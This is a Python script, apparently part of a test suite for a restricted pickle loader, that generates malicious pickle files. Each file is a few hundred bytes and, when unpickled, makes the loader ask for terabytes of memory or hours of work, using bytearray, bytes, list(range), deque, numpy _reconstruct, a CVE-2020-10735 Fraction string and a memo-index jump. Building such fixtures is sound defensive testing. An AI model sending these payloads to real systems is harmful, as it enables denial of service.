"""Class 3 of issue 16: resource exhaustion through ALLOWED callables and through opcode arguments.

Payloads are written by CPython 3.11's pickler from stubs of the allowed callables (same module/name), so each
file is a few hundred bytes that asks the real loader for terabytes or hours.
"""
import struct

from common import Call, P, dumps

import builtins
import collections
import fractions


def _np_reconstruct():
    # numpy's own pickle is _reconstruct(ndarray, (0,), b'b') then BUILD with the real shape and bytes
    # (numpy/_core/src/multiarray/methods.c array_reduce); a shape here makes ndarray.__new__ allocate it first.
    import numpy as np
    return dumps(Call(np._core.multiarray._reconstruct, np.ndarray, (2 ** 20, 2 ** 20), b'b'))


def _memo_jump():
    # A protocol-2 list memoized at index 2**32-2 (LONG_BINPUT): CPython grows the memo list to 2*index entries.
    return P(2).op(']').raw(b'r' + struct.pack('<I', 2 ** 32 - 2)).stop().done()


def generate(corpus):
    w = lambda f, d, note: corpus.write(3, f, d, 'malicious', 'pickle.resource-exhaustion', note)  # noqa: E731
    w('bytearray_terabyte.pkl', dumps(Call(builtins.bytearray, 2 ** 40)),
      'builtins.bytearray(2**40) (allowed type): CPython allocates and zero-fills 1 TiB (Objects/bytearrayobject.c)')
    w('bytes_terabyte_proto2.pkl', dumps(Call(builtins.bytes, 2 ** 40), protocol=2),
      'builtins.bytes(2**40) pickled with protocol 2 (LONG1 argument): bytes(int) allocates that many zero bytes')
    w('list_of_range.pkl', dumps(Call(builtins.list, range(10 ** 12))),
      'list(range(10**12)): range pickles as builtins.range(0, 10**12, 1) (Objects/rangeobject.c range_reduce); list() materialises it')
    w('deque_of_range.pkl', dumps(Call(collections.deque, range(10 ** 11))),
      'collections.deque(range(10**11)): same materialisation through another allowed container')
    w('numpy_reconstruct_shape.pkl', _np_reconstruct(),
      'numpy._core.multiarray._reconstruct(ndarray, (2**20, 2**20), b"b"): ndarray.__new__ allocates 1 TiB before BUILD')
    w('fraction_digits.pkl', dumps(Call(fractions.Fraction, '1/' + '9' * 200000)),
      'fractions.Fraction("1/999…") with 200 000 digits: quadratic int parsing on CPython < 3.11 / 3.10.7 (CVE-2020-10735)')
    w('memo_index_jump.pkl', _memo_jump(),
      'LONG_BINPUT 2**32-2: CPython _pickle.c _Unpickler_ResizeMemoList grows the memo to 2*index pointers (64 GiB)')
